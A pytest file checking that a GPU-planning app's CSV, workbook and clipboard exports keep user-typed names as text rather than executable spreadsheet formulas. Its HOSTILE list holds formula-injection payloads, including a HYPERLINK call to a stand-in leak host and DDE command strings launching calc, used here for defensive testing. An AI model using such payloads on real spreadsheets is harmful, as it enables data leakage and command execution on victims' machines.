"""Names from the user's catalog edits reach the plans CSV, the workbook and the clipboard as text a spreadsheet
shows, never as a formula it runs (OWASP "CSV Injection"); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QAction
from PySide6.QtWidgets import QApplication, QFileDialog

from gpuplanner.catalog.store import Catalog
from gpuplanner.ui.plans_export import spreadsheet_csv
from tests.test_catalog_editor import MY_SXM

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","Open")', "@SUM(1)", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=2+2"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# An H100-class GPU priced far below the catalog's, in an 8-GPU server of the user's own (a GPU no server holds is
# planned in a generic chassis and ranks after the plans on a real one): bought, within the deadline, every hostile
# one ranks among the plans the window shows.
CHEAP_GPU = {**MY_SXM, "memory_bandwidth_gbs": "3350", "price_usd_low": "100"}
OWN_SERVER = {"id": "our-8-gpu-sxm", "vendor": "Ours", "model": "8-GPU SXM server (our quote)", "gpu_count": "8",
              "rack_units": "8", "max_power_w": "10200", "source": "vendor quote 2026-11", "as_of": "2026-11-30"}
BOUGHT = {"task": "pretrain", "model": {"preset": "llama-2-7b"}, "training": {"tokens": 1e11},
          "constraints": {"deployment": "on-prem", "deadline_days": 30}}


@pytest.fixture
def hostile_names(private_user_data) -> dict[str, str]:
    """Six GPUs the user typed into the catalog, named as an attacker would: id -> the name as stored."""
    catalog = Catalog()
    for index, name in enumerate(HOSTILE):
        catalog.save_user_row("gpus", {**CHEAP_GPU, "id": f"evil-{index}", "model": name})
    catalog.save_user_row("servers", {**OWN_SERVER, "gpu_ids": ";".join(f"evil-{i}" for i in range(len(HOSTILE)))})
    stored = Catalog()
    return {f"evil-{index}": stored.gpu(f"evil-{index}").model for index in range(len(HOSTILE))}


@pytest.fixture
def window(qtbot, main_window, hostile_names):
    main_window.catalog = Catalog()
    main_window.wizard.load_scenario(BOUGHT)
    with qtbot.waitSignal(main_window.result_shown, timeout=60_000):
        main_window.debouncer.stop()
        main_window.recompute()
    return main_window


def assert_no_formula(cells: list[str], numbers_allowed: bool = True) -> None:
    """No cell a spreadsheet would read as a formula: none starts with = + - @ tab or CR, unless it is a number."""
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            assert numbers_allowed, cell
            float(cell.replace(",", ""))  # ValueError: a formula got through


def test_text_is_kept_from_formulas_and_numbers_stay_numbers() -> None:
    text = spreadsheet_csv([["-2+3", -2, -2.5, "=1", 'say "hi"', "\tx", "plain", ""]])
    assert text == '"\'-2+3",-2,-2.5,"\'=1","say ""hi""","\'\tx","plain",""\n'
    assert next(csv.reader(io.StringIO(text))) == ["'-2+3", "-2", "-2.5", "'=1", 'say "hi"', "'\tx", "plain", ""]


def test_the_plans_csv_from_the_window_holds_the_names_as_text(qtbot, window, hostile_names, tmp_path,
                                                                monkeypatch) -> None:
    path = tmp_path / "plans.csv"
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *args, **kwargs: (str(path), ""))
    (action,) = [a for a in window.findChildren(QAction) if a.text() == "Export plans as &CSV…"]
    action.trigger()
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    header = rows[0]
    names = {row[header.index("GPU id")]: row[header.index("GPU")] for row in rows[1:]}
    for gpu, name in hostile_names.items():
        assert names[gpu] == "'" + name  # as written, behind the apostrophe that keeps it text
    for row in rows:
        assert_no_formula(row)
    first = dict(zip(header, rows[1], strict=True))
    assert int(first["GPUs"]) > 0 and float(first["ranking cost (USD)"]) > 0  # numbers still numbers


def test_the_workbook_holds_the_names_as_inline_text_and_no_formula(qtbot, window, hostile_names,
                                                                     tmp_path) -> None:
    """The xlsx export was safe already: text is an inline string, and the sheet has no formula element."""
    path = tmp_path / "plans.xlsx"
    assert window.write_plans_xlsx(str(path))
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    assert '<t xml:space="preserve">@SUM(1)</t>' in sheet and 't="inlineStr"' in sheet


def test_ctrl_c_of_the_plans_holds_the_names_as_text(qtbot, window, hostile_names) -> None:
    view = window.plans_view
    gpu_column = next(c for c in range(window.plans_proxy.columnCount())
                      if window.plans_proxy.headerData(c, Qt.Orientation.Horizontal) == "GPU")
    shown = [window.plans_proxy.data(window.plans_proxy.index(r, gpu_column))
             for r in range(window.plans_proxy.rowCount())]
    assert set(hostile_names.values()) <= set(shown)  # every hostile name is in the table
    first = view.visualRect(window.plans_proxy.index(0, gpu_column)).center()
    qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=first)
    qtbot.keyClick(view, Qt.Key.Key_A, Qt.KeyboardModifier.ControlModifier)
    qtbot.keyClick(view, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    rows = list(csv.reader(io.StringIO(QApplication.clipboard().text()), delimiter="\t"))
    assert len(rows) == 1 + window.plans_proxy.rowCount()
    copied = [row[gpu_column] for row in rows[1:]]
    for name in hostile_names.values():
        assert "'" + name in copied
    for row in rows:
        assert_no_formula(row)
